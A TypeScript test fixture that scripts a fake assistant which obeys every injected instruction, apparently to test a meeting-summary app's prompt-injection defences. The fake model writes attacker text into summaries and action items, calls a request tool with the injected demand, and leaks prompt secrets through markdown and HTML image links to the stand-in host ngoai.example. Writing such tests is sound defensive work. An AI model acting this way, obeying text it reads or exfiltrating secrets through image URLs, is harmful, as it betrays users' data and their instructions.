import type { AskedModel } from '../models/asked-model.ts';
import type { ModelAct, ModelScript } from '../models/model-server.ts';

/**
 * A model that obeys every text it reads: where it has tools it asks for the change `wants()` names, as often as it
 * may, and where it has none it writes the mark of its prompt, links and images that carry away what it read.
 */
export const obeyInjections =
  (wants: () => string): ModelScript =>
  ({ tools, prompt }: AskedModel): readonly ModelAct[] => {
    const mark = /hgq[0-9a-f]{28}/.exec(prompt)?.[0] ?? '';
    const secrets = prompt.match(/MẬT-\d+/g)?.join(' ') ?? '';
    if (prompt.includes('tom_tat'))
      return [
        {
          say: JSON.stringify({
            tom_tat: [{ cau: wants(), luot: [0] }],
            quyet_dinh: [{ cau: `Đã quyết: ${wants()}`, luot: [0, 1] }],
            viec: [{ viec: wants().slice(0, 200), nguoi: 'Kẻ Gian', han: 'mai', luot: [0] }],
            cau_hoi: [{ cau: `${mark} ${secrets}`, luot: [0] }],
          }),
        },
      ];
    if (tools.includes('de_nghi')) return [{ call: 'de_nghi', input: { yeu_cau: wants() } }];
    return [
      { say: `Tôi đã ${wants()}. ` },
      { say: `![x](https://ngoai.example/${secrets}) <img src="https://ngoai.example/${secrets}">` },
      { say: ` ${mark}` },
    ];
  };

/** The same model, except that it first reads what the person may see, so that the words of others reach it. */
export const readThenObey =
  (wants: () => string): ModelScript =>
  (asked) =>
    asked.tools.length > 0 && !asked.prompt.includes('tom_tat')
      ? [
          { call: 'meetings', input: {} },
          { call: 'action_items', input: {} },
          { call: 'search', input: { query: 'ngân sách', kinds: 'meetings,items,said' } },
          ...(asked.tools.includes('doc_van_ban_dan')
            ? [{ call: 'doc_van_ban_dan', input: {} } as const]
            : []),
        ]
      : obeyInjections(wants)(asked);
